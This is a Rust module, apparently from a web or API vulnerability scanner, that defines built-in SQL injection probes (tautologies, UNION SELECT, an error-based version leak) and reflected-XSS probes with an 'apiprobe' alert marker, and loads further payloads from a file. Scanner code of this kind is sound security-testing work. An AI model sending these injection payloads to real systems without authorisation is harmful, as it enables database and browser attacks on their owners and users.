use log::debug;
use std::io;

use crate::utils::read_lines;

/// Built-in SQL injection probes, cheapest first.
pub const SQLI_PROBES: &[&str] = &[
    r#"'"#,
    r#"' OR '1'='1'--"#,
    r#"" OR "1"="1"--"#,
    r#"' UNION SELECT NULL,NULL,NULL--"#,
    r#"1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--"#,
    r#"'/**/OR/**/1=1--"#,
];

/// Built-in reflected-XSS probes; each carries a marker the detector can find.
pub const XSS_PROBES: &[&str] = &[
    r#"<script>alert('apiprobe')</script>"#,
    r#"<img src=x onerror=alert('apiprobe')>"#,
    r#"<svg/onload=alert('apiprobe')>"#,
    r#""><svg/onload=alert('apiprobe')>"#,
];

/// Parameter used when the target URL carries no query string of its own.
pub const FALLBACK_PARAM: &str = "q";

/// Injection payload catalog: built-ins plus anything loaded from disk.
#[derive(Debug, Clone, Default)]
pub struct PayloadCatalog {
    pub sqli_payloads: Vec<String>,
    pub xss_payloads: Vec<String>,
}

impl PayloadCatalog {
    pub fn builtin() -> Self {
        Self {
            sqli_payloads: SQLI_PROBES.iter().map(|s| s.to_string()).collect(),
            xss_payloads: XSS_PROBES.iter().map(|s| s.to_string()).collect(),
        }
    }

    /// Adds the payloads from `path`, one per line. Markup-looking lines go to
    /// the XSS family, the rest to SQLi. An unreadable file is an error and
    /// leaves the catalog untouched.
    pub fn extend_from_file(&mut self, path: &str) -> io::Result<usize> {
        let extra = read_lines(path)?;
        let added = extra.len();
        debug!("{} payload(s) read from {}", added, path);
        for payload in extra {
            if looks_like_markup(&payload) {
                self.xss_payloads.push(payload);
            } else {
                self.sqli_payloads.push(payload);
            }
        }
        Ok(added)
    }

    pub fn len(&self) -> usize {
        self.sqli_payloads.len() + self.xss_payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn looks_like_markup(payload: &str) -> bool {
    let lower = payload.to_lowercase();
    ["<", "javascript:", "onerror=", "onload="]
        .iter()
        .any(|marker| lower.contains(marker))
}
